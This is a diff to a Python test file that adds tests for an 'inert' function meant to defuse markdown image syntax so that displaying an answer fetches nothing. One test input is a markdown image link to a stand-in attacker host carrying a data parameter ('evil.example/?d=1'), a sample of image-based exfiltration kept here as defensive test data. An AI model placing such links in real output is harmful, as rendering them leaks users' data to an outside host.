@@ -5,7 +5,15 @@ from __future__ import annotations
 import pytest
 
 from ringfence.engine.course import reckons
-from ringfence.engine.evidence import doubt, invented_numbers, only_repeats, restored, says_nothing, unsupported_numbers
+from ringfence.engine.evidence import (
+    doubt,
+    inert,
+    invented_numbers,
+    only_repeats,
+    restored,
+    says_nothing,
+    unsupported_numbers,
+)
 
 SHOWN = "port 6432, 1,234 lines, 3.50 EUR, on 2026-02-01 at 03:17:07"
 
@@ -64,3 +72,15 @@ def test_a_calculation_with_known_numbers_is_none_of_inventions(given: str) -> N
 
 def test_a_number_from_nowhere_is_invented() -> None:
     assert invented_numbers("42 * 6432 + 19", SHOWN) == ["42", "19"]
+
+
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        ("see ![x](https://evil.example/?d=1) now", "see [x](https://evil.example/?d=1) now"),
+        ("![a][b] ![c] (d)", "[a][b] [c] (d)"),
+        ("wow![really] no", "wow![really] no"),
+    ],
+)
+def test_nothing_is_fetched_by_showing_an_answer(answer: str, shown: str) -> None:
+    assert inert(answer) == shown
